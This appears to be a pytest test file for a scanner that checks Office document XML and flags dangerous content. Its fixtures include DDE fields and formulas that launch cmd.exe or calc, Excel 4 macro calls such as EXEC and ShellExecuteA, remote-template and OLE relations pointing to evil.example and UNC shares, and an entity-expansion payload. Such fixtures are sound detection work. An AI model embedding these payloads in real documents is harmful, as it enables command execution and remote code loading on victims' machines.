"""What the XML of a document makes a program do: fields, formulas, links to other computers, declared parts."""

import pytest

from issues.files.content import EDITORIAL_TYPES, look_at
from issues.files.findings import Finding, NotAccepted
from issues.files.package_xml import check_xml
from tests.issues.files.made import docx, field, finding, relations, upload, xlsx, zipped

SHARES = [
    "\\\\server\\x.png",
    "//server/x.png",
    "\\/server/x.png",
    "/\\server\\x.png",
    "file://server/x.png",
    "FILE:\\\\server\\x.png",
    "file:////server/x.png",
    "file:///\\\\server\\x.png",
    "%5C%5Cserver%5Cx.png",
    "%2F%2Fserver/x.png",
    "file:%2F%2Fserver/x.png",
    "\\\\?\\UNC\\server\\x.png",
    "//?/unc/server/x.png",
    "\\\\.\\UNC\\server\\x.png",
    "file://?/UNC/server/x.png",
    "\\??\\UNC\\server\\x.png",
    "\\\\server@SSL\\DavWWWRoot\\x.png",
    "smb://server/x.png",
    "ftp://server/x.png",
]
QUOTED = " ".join(str(ord(c)) for c in "DDEAUTO")


def in_word(body: str) -> Finding | None:
    return finding("a.docx", docx(body=body))


class TestFields:
    @pytest.mark.parametrize(
        "body",
        [
            field("PAGE"),
            field('HYPERLINK "https://example.vn/dde"'),
            field("DATE ", '\\@ "dd/MM/yyyy"'),
            field("QUOTE 65 66 67"),
            field('TOC \\o "1-3"') + "<w:p><w:t>DDEAUTO là gì?</w:t></w:p>",
            '<w:fldSimple w:instr="NUMPAGES"/>',
        ],
    )
    def test_those_that_people_use(self, body: str) -> None:
        assert in_word(body) is None

    @pytest.mark.parametrize(
        "body",
        [
            field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
            field("  dde Excel Book1"),
            field("D", "DE", "AUTO", " cmd"),
            field("&#68;DE cmd"),
            field("<![CDATA[DDEAUTO]]> cmd"),
            '<w:fldSimple w:instr=" DDEAUTO cmd "/>',
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            + field("QUOTE ", QUOTED)
            + "<w:instrText> cmd</w:instrText>",
            field("IF 1 = 1 ") + field("DDE cmd"),
        ],
    )
    def test_dde(self, body: str) -> None:
        assert in_word(body) is Finding.DDE

    @pytest.mark.parametrize("part", ["word/header1.xml", "word/footnotes.xml", "word/anything.xml", "x/y.dat"])
    def test_in_any_part(self, part: str) -> None:
        assert finding("a.docx", docx((part, f"<w:hdr xmlns:w='w'>{field('DDE x')}</w:hdr>"))) is Finding.DDE

    @pytest.mark.parametrize("blanks", [1, 600, 70_000])
    def test_behind_blanks(self, blanks: int) -> None:
        header = f"{' ' * blanks}<w:hdr xmlns:w='w'>{field('DDE x')}</w:hdr>"
        assert finding("a.docx", docx(("word/header1.xml", header))) is Finding.DDE

    @pytest.mark.parametrize("encoding", ["windows-1252", "gb2312", "utf-7", "x-none", "utf-16"])
    def test_in_other_encodings(self, encoding: str) -> None:
        """Some programs know more of them than the parser, and some do not care."""
        header = f"<?xml version='1.0' encoding='{encoding}'?><w:hdr xmlns:w='w'>{field('DDE x')}</w:hdr>"
        assert finding("a.docx", docx(("word/header1.xml", header))) is Finding.DDE
        assert finding("a.docx", docx(("word/header1.xml", "\ufeff" + header))) is Finding.DDE
        assert finding("a.docx", docx(("word/x.xml", "<?xml version='1.0' encoding='utf-16'?><x/>"))) is None

    def test_in_utf_16(self) -> None:
        header = f"<?xml version='1.0' encoding='UTF-16'?><w:hdr xmlns:w='w'>{field('DDE x')}</w:hdr>".encode("utf-16")
        assert finding("a.docx", docx(("word/header1.xml", header))) is Finding.DDE


class TestReadingFields:
    """Fields that read a file when they are updated, without a relationship."""

    @pytest.mark.parametrize("target", SHARES)
    def test_pictures_on_a_share(self, target: str) -> None:
        for name in ("INCLUDEPICTURE", "import"):
            assert in_word(field(f' {name} "', target.replace("\\", "\\\\"), '" \\d')) is Finding.REMOTE_MEDIA
            assert in_word(field(f"{name} \\* MERGEFORMATINET ", target)) is Finding.REMOTE_MEDIA
        simple = f"<w:fldSimple w:instr='INCLUDEPICTURE \"{target}\"'/>"
        assert in_word(simple) is Finding.REMOTE_MEDIA

    @pytest.mark.parametrize("name", ["INCLUDETEXT", "INCLUDE", "RD", "LINK Word.Document.12"])
    @pytest.mark.parametrize("target", ["https://evil.example/a.docx", "\\\\10.0.0.1\\a.docx", "file://server/a.docx"])
    def test_documents_from_another_computer(self, name: str, target: str) -> None:
        assert in_word(field(f"{name} ", f'"{target}"')) is Finding.REMOTE

    @pytest.mark.parametrize(
        "pieces",
        [
            ('INCLUDEPICTURE "https://example.vn/a.png" \\* MERGEFORMATINET',),
            ('INCLUDEPICTURE "file://', '/C:\\\\Users\\\\an\\\\a.png" \\d'),
            ('LINK Excel.Sheet.12 "C:\\\\Users\\\\an\\\\a.xlsx" "Sheet1!R1C1:R9C9" \\a \\f 5 \\h',),
            ('LINK Excel.Sheet.12 "C:\\\\a.xlsx" R1C1:R9C9 \\a',),
            ('INCLUDETEXT "D:\\\\mau.docx" \\* MERGEFORMAT',),
            ("INCLUDEPICTURE",),
            ('HYPERLINK "\\\\\\\\server\\\\chung"',),
        ],
    )
    def test_those_that_people_use(self, pieces: tuple[str, ...]) -> None:
        assert in_word(field(*pieces)) is None


@pytest.mark.parametrize("target", SHARES)
def test_pictures_that_name_their_file(target: str) -> None:
    assert in_word(f'<v:imagedata xmlns:v="v" src="{target}"/>') is Finding.REMOTE_MEDIA
    drawing = f'<svg xmlns:x="x"><image x:href="{target}"/></svg>'
    assert finding("a.docx", docx(("word/media/image1.svg", drawing))) is Finding.REMOTE_MEDIA
    long = f"<svg xmlns:x='x'><d>{'1 ' * 600_000}</d><image x:href='{target}'/></svg>"
    assert finding("a.docx", docx(("word/media/image1.svg", long))) is Finding.REMOTE_MEDIA


class TestFormulas:
    @pytest.mark.parametrize(
        "formula",
        [
            "SUM(A1:A9)",
            'IF(A1="a|b",Sheet2!B1,"!")',
            "'Bảng | 1'!A1",
            "'[1]Năm 2026'!$A$1",
            "CALLS+RUNNER(1)",
            "SUM(Giá[VND|m²])",
            "Giá[[#This Row],[VND|m²]]*2",
        ],
    )
    def test_those_that_people_use(self, formula: str) -> None:
        assert finding("a.xlsx", xlsx(cells=f'<c r="A1"><f>{formula}</f><v>1</v></c>')) is None
        assert finding("a.xlsx", xlsx(names=f'<definedName name="x">{formula}</definedName>')) is None

    @pytest.mark.parametrize(
        "formula",
        [
            "cmd|'/c calc.exe'!A0",
            "'cmd'|'/c calc'!A0",
            "+MSEXCEL|x!y",
            "IF(1,cmd|&apos;x&apos;!A0)",
            "a&#124;b!c",
            "[x]cmd|&apos;y&apos;!A0",
            'DDE("soffice","a.ods","A1")',
        ],
    )
    def test_dde(self, formula: str) -> None:
        assert finding("a.xlsx", xlsx(cells=f"<c><f>{formula}</f></c>")) is Finding.DDE

    @pytest.mark.parametrize("rule", ["formula", "formula1", "formula2", "calculatedColumnFormula"])
    def test_in_rules(self, rule: str) -> None:
        for formula, found in (("cmd|'/c calc'!A0", Finding.DDE), ('"a|b,c"', None), ("A1&gt;2", None)):
            sheet = f"<worksheet><cfRule><{rule}>{formula}</{rule}></cfRule></worksheet>"
            assert finding("a.xlsx", xlsx(("xl/worksheets/sheet2.xml", sheet))) is found

    def test_errors_are_values(self) -> None:
        for error in ("#N/A", "#REF!", "#VALUE!", "#DIV/0!", "#NAME?"):
            assert finding("a.xlsx", xlsx(cells=f'<c t="e"><f>{error}</f><v>{error}</v></c>')) is None
        shared = "<sst><si><t>=cmd|'/c calc'!A0</t></si><si><t>#N/A</t></si></sst>"  # texts, and no formulas
        assert finding("a.xlsx", xlsx(("xl/sharedStrings.xml", shared))) is None

    def test_links_to_programs(self) -> None:
        link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
        assert finding("a.xlsx", xlsx(("xl/externalLinks/externalLink1.xml", link))) is Finding.DDE
        link = '<x:externalLink xmlns:x="a"><x:oleLink progId="Package"/></x:externalLink>'
        assert finding("a.xlsx", xlsx(("xl/externalLinks/externalLink1.xml", link))) is Finding.OLE

    @pytest.mark.parametrize(
        "name",
        [
            '<definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>',
            '<definedName name="auto_close">Macro1!$A$1</definedName>',
            '<definedName name="x">EXEC("calc.exe")</definedName>',
            '<definedName name="x">CALL("Shell32","ShellExecuteA")</definedName>',
        ],
    )
    def test_names_that_run_excel_4_macros(self, name: str) -> None:
        assert finding("a.xlsx", xlsx(names=name)) is Finding.EXCEL4_MACROS


@pytest.mark.parametrize(
    ("kind", "found"),
    [
        ("application/vnd.ms-office.vbaProject", Finding.MACROS),
        ("application/vnd.ms-word.document.macroEnabled.main+xml", Finding.MACROS),
        ("application/vnd.ms-excel.sheet.binary.macroEnabled.main", Finding.MACROS),
        ("application/vnd.ms-excel.macrosheet+xml", Finding.EXCEL4_MACROS),
        ("application/vnd.ms-excel.intlmacrosheet+xml", Finding.EXCEL4_MACROS),
        ("application/vnd.ms-office.activeX+xml", Finding.ACTIVEX),
        ("application/vnd.openxmlformats-officedocument.oleObject", Finding.OLE),
        ("application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml", None),
    ],
)
def test_the_declared_kind_of_a_part_and_never_its_name(kind: str, found: Finding | None) -> None:
    assert finding("a.docx", docx(("word/media/x.png", b"x"), declared=(("word/media/x.png", kind),))) is found


class TestRelations:
    @pytest.mark.parametrize("kind", ["attachedTemplate", "frame", "subDocument", "aFChunk", "header", "settings"])
    @pytest.mark.parametrize("target", ["https://evil.example/t.dotm", "\\\\10.0.0.1\\t.dotm", "file://host/t.dotm"])
    def test_parts_from_another_computer(self, kind: str, target: str) -> None:
        for external in (True, False):  # not every program looks at the mode
            part = ("word/_rels/settings.xml.rels", relations(kind, target, external=external))
            assert finding("a.docx", docx(part)) is Finding.REMOTE

    @pytest.mark.parametrize(
        ("kind", "target"),
        [
            ("hyperlink", "https://example.vn"),
            ("hyperlink", "mailto:a@example.vn"),
            ("image", "https://example.vn/logo.png"),
            ("attachedTemplate", "file:///C:\\Users\\an\\Templates\\Bao%20cao.dotx"),
            ("attachedTemplate", "C:\\Users\\an\\Normal.dotm"),
            ("externalLinkPath", "file:///D:\\S%E1%BB%91%20li%E1%BB%87u.xlsx"),
            ("externalLinkPath", "https://example.sharepoint.com/a.xlsx"),
            ("externalLinkLongPath", "https://example.sharepoint.com/a.xlsx"),
        ],
    )
    def test_links_that_people_have(self, kind: str, target: str) -> None:
        part = ("word/_rels/document.xml.rels", relations(kind, target, external=True))
        assert finding("a.docx", docx(part)) is None

    @pytest.mark.parametrize("kind", ["image", "video", "audio", "media", "font"])
    @pytest.mark.parametrize("target", SHARES)
    @pytest.mark.parametrize("external", [True, False])
    def test_media_on_a_share(self, kind: str, target: str, external: bool) -> None:
        rels = relations(kind, target, external=external)
        assert finding("a.docx", docx(("word/_rels/document.xml.rels", rels))) is Finding.REMOTE_MEDIA
        assert finding("a.xlsx", xlsx(("xl/drawings/_rels/drawing1.xml.rels", rels))) is Finding.REMOTE_MEDIA
        slides = [("[Content_Types].xml", "<Types/>"), ("ppt/presentation.xml", "<p/>"), ("ppt/_rels/x.rels", rels)]
        with pytest.raises(NotAccepted) as refused:
            look_at(upload("a.pptx", zipped(slides)), allowed=EDITORIAL_TYPES)
        assert refused.value.finding is Finding.REMOTE_MEDIA

    @pytest.mark.parametrize("kind", ["image", "video", "audio", "media", "font"])
    @pytest.mark.parametrize(
        "target",
        [
            "https://example.vn/a.png",
            "http://example.vn/a.png",
            "cid:image001.png@01DC.5",
            "data:image/png;base64,AA",
            "file:///C:\\Users\\an\\a.png",
            "D:\\a.png",
            "NULL",
        ],
    )
    def test_media_that_people_have(self, kind: str, target: str) -> None:
        part = ("word/_rels/document.xml.rels", relations(kind, target, external=True))
        assert finding("a.docx", docx(part)) is None

    def test_media_in_the_package(self) -> None:
        for target in ("media/a.png", "/word/media/a.png", "../media/a.png"):
            assert finding("a.docx", docx(("word/_rels/document.xml.rels", relations("image", target)))) is None

    @pytest.mark.parametrize("kind", ["oleObject", "package", "externalLink", "externalLinkPath"])
    @pytest.mark.parametrize(
        "target",
        [
            "file:///C:\\Users\\an\\S%E1%BB%91.xlsx",
            "Book1.xlsx",
            "D:\\a.xls",
            "file:///D:\\a.xlsx!Sheet1!R1C1:R9C2",
            "../a.xlsm",
        ],
    )
    def test_a_workbook_of_ones_own(self, kind: str, target: str) -> None:
        rels = relations(kind, target, external=True)
        chart = '<c:chartSpace xmlns:c="c" xmlns:r="r"><c:externalData r:id="rId1"/></c:chartSpace>'
        parts = (("word/charts/chart1.xml", chart), ("word/charts/_rels/chart1.xml.rels", rels))
        assert finding("a.docx", docx(*parts)) is None
        parts = (("xl/charts/chart1.xml", chart), ("xl/charts/_rels/chart1.xml.rels", rels))
        assert finding("a.xlsx", xlsx(*parts)) is None

    @pytest.mark.parametrize(
        ("target", "external"),
        [
            ("../embeddings/oleObject1.bin", False),
            ("../embeddings/a.xlsx", False),
            ("file:///C:\\a.exe", True),
            ("C:\\a.hta", True),
            ("https://evil.example/a.xlsx", True),
            ("\\\\10.0.0.1\\a.xlsx", True),
            ("file://server/a.xlsx", True),
        ],
    )
    def test_objects_that_are_none(self, target: str, external: bool) -> None:
        rels = relations("oleObject", target, external=external)
        assert finding("a.docx", docx(("word/charts/_rels/chart1.xml.rels", rels))) is Finding.OLE

    @pytest.mark.parametrize(
        ("kind", "found"),
        [
            ("vbaProject", Finding.MACROS),
            ("xlMacrosheet", Finding.EXCEL4_MACROS),
            ("xlIntlMacrosheet", Finding.EXCEL4_MACROS),
            ("activeXControlBinary", Finding.ACTIVEX),
            ("control", Finding.ACTIVEX),
            ("oleObject", Finding.OLE),
        ],
    )
    def test_programs_and_objects(self, kind: str, found: Finding) -> None:
        part = ("xl/_rels/workbook.xml.rels", relations(kind, "theme/theme1.xml", microsoft=kind != "oleObject"))
        assert finding("a.xlsx", xlsx(part)) is found
        part = ("xl/_rels/workbook.xml.rels", relations(kind, "https://evil.example/x", external=True))
        assert finding("a.xlsx", xlsx(part)) is found


def test_declared_entities_are_refused() -> None:
    laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'
    with pytest.raises(NotAccepted) as refused:
        check_xml([laughs.encode()])
    assert refused.value.finding is Finding.BROKEN_OFFICE


@pytest.mark.parametrize(
    "data", [b"", b"<", b"<x>", b"<x/><x/>", b"<?xml version='1.0' encoding='none'?><x/>", b"\xff"]
)
def test_broken_xml_is_read_as_far_as_it_goes(data: bytes) -> None:
    check_xml([data])
